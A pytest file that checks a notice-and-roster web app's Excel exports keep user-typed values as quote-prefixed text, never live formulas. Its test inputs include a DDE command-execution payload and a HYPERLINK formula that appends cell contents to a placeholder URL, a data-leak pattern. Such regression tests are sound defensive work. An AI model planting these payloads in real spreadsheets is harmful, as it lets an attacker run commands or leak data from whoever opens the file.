"""Spreadsheet exports: what people typed comes out as text, never as a formula Excel would run."""

import io
import re
import zipfile
from datetime import date

import openpyxl
import pytest
from sqlalchemy import select

from app.extensions import db
from app.receipts.models import Distribution
from app.rosters.models import LeadingGroup, Membership
from app.tasks.models import Task
from app.units.models import Unit
from tests.helpers.notices import seed_notice
from tests.helpers.receipts import just_arrived

# Cell types are the workbook's, not the database's: SQLite only.
pytestmark = pytest.mark.parametrize("backend", ["sqlite"], indirect=True)

HYPERLINK = '=HYPERLINK("http://x/"&A1,"x")'
DDE = "=cmd|' /C calc'!A0"


def _assert_no_formula(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >/]", package.read(name)), f"a formula in {name}"


def _cells(data: bytes) -> dict:
    """Every non-empty cell: value -> the cell (its data_type: "s" text, "n" number, "d" date, "f" formula)."""
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value is not None}


def test_a_clerks_reply_that_looks_like_a_formula_is_text_in_the_receipts_export(login, client, app):
    just_arrived(app)
    with app.app_context():
        notice = seed_notice()
        notice.reply_requested = True
        notice.reply_fields = [
            {"key": "f1", "label": "参加人员", "type": "text", "required": True},
            {"key": "f2", "label": "联系电话", "type": "phone", "required": False},
            {"key": "f3", "label": "备注", "type": "text", "required": False},
        ]
        unit = db.session.scalar(select(Unit).where(Unit.code == "no1_middle"))
        distribution = db.session.scalar(
            select(Distribution).where(Distribution.notice_id == notice.id, Distribution.unit_id == unit.id)
        )
        distribution.reminders_sent = 2
        notice_id, distribution_id = notice.id, distribution.id
        db.session.commit()
    login("clerk_no1_middle")
    reply = {"reply_f1": DDE, "reply_f2": "+86 0473-1234567", "reply_f3": HYPERLINK}
    assert client.post(f"/inbox/{distribution_id}/receipt", data=reply).status_code == 303
    login("staff")
    response = client.get(f"/notices/{notice_id}/receipts.xlsx")
    assert response.status_code == 200
    _assert_no_formula(response.data)
    cells = _cells(response.data)
    for typed in (HYPERLINK, DDE, "+86 0473-1234567"):
        # Text, and quote-prefixed so that it stays text when someone edits the cell in Excel.
        assert (cells[typed].data_type, cells[typed].quotePrefix) == ("s", True), typed
    row = cells[HYPERLINK].row
    reminders = [c for c in cells.values() if c.row == row and c.value == 2]
    assert reminders and reminders[0].data_type == "n"  # numbers stay numbers


def test_task_text_that_looks_like_a_formula_is_text_in_the_tasks_export(login, client, app):
    with app.app_context():
        notice = seed_notice()
        task = db.session.scalar(select(Task).where(Task.source_notice_id == notice.id, Task.code == "A7"))
        task.title = HYPERLINK
        task.description = "-2+3"
        task.code = "@SUM(1+1)"
        task.due_on = date(2024, 6, 30)
        notice_id = notice.id
        db.session.commit()
    login("staff")
    response = client.get(f"/notices/{notice_id}/tasks.xlsx")
    assert response.status_code == 200
    _assert_no_formula(response.data)
    cells = _cells(response.data)
    for typed in (HYPERLINK, "-2+3", "@SUM(1+1)"):
        assert (cells[typed].data_type, cells[typed].quotePrefix) == ("s", True), typed
    deadline = [c for c in cells.values() if c.row == cells["-2+3"].row and c.is_date]
    assert deadline and deadline[0].value.date() == date(2024, 6, 30)  # dates stay dates


def test_a_roster_entry_that_looks_like_a_formula_is_text_in_the_roster_export(login, client, app):
    with app.app_context():
        group = db.session.scalar(select(LeadingGroup).order_by(LeadingGroup.id))
        member = db.session.scalar(
            select(Membership).where(Membership.group_id == group.id, Membership.person_name.is_not(None))
        )
        member.person_name = DDE
        member.title = "\t=1+1"
        group_id = group.id
        db.session.commit()
    login("staff")
    response = client.get(f"/rosters/{group_id}/roster.xlsx?on=2023-09-01")
    assert response.status_code == 200
    _assert_no_formula(response.data)
    cells = _cells(response.data)
    for typed in (DDE, "\t=1+1"):
        assert (cells[typed].data_type, cells[typed].quotePrefix) == ("s", True), typed
    assert not cells["成员"].quotePrefix  # ordinary text is left alone
